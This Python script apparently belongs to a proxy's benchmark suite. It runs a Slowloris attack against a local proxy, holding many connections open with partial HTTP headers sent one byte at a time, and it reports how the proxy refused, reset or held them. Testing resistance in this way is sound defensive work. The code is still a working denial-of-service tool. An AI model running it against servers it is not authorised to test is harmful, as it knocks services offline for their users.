#!/usr/bin/env python3
"""Slowloris for bench/abuse.sh: open COUNT connections from one source
address, send an unfinished request head and then one header byte every
PACE seconds, for DURATION seconds. Prints how many connections the proxy
refused at once, held open, or cut off (and when), as key=value lines."""
import argparse
import asyncio
import time


async def slow(host, port, source, pace, until, stats):
    try:
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
    except OSError:
        stats["connect_failed"] += 1
        return
    opened = time.monotonic()
    try:
        writer.write(b"GET /wr/healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        await writer.drain()
        while time.monotonic() < until:
            try:
                data = await asyncio.wait_for(reader.read(1024), timeout=pace)
                # Anything read means the proxy answered (a refusal or a timeout) or closed.
                stats["answered" if data else "closed"] += 1
                stats["lifetimes"].append(time.monotonic() - opened)
                return
            except asyncio.TimeoutError:
                writer.write(b"a")
                await writer.drain()
        stats["held_to_the_end"] += 1
    except (ConnectionError, OSError):
        stats["reset"] += 1
        stats["lifetimes"].append(time.monotonic() - opened)
    finally:
        writer.close()


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--source", default="127.0.0.1")
    p.add_argument("--count", type=int, default=2000)
    p.add_argument("--pace", type=float, default=2.0)
    p.add_argument("--duration", type=float, default=30.0)
    a = p.parse_args()
    stats = {"connect_failed": 0, "answered": 0, "closed": 0, "reset": 0, "held_to_the_end": 0, "lifetimes": []}
    until = time.monotonic() + a.duration
    await asyncio.gather(*(slow(a.host, a.port, a.source, a.pace, until, stats) for _ in range(a.count)))
    lifetimes = sorted(stats.pop("lifetimes"))
    median = lifetimes[len(lifetimes) // 2] if lifetimes else 0
    for k, v in stats.items():
        print(f"slow_{k}={v}")
    print(f"slow_median_lifetime_s={median:.1f}")


asyncio.run(main())
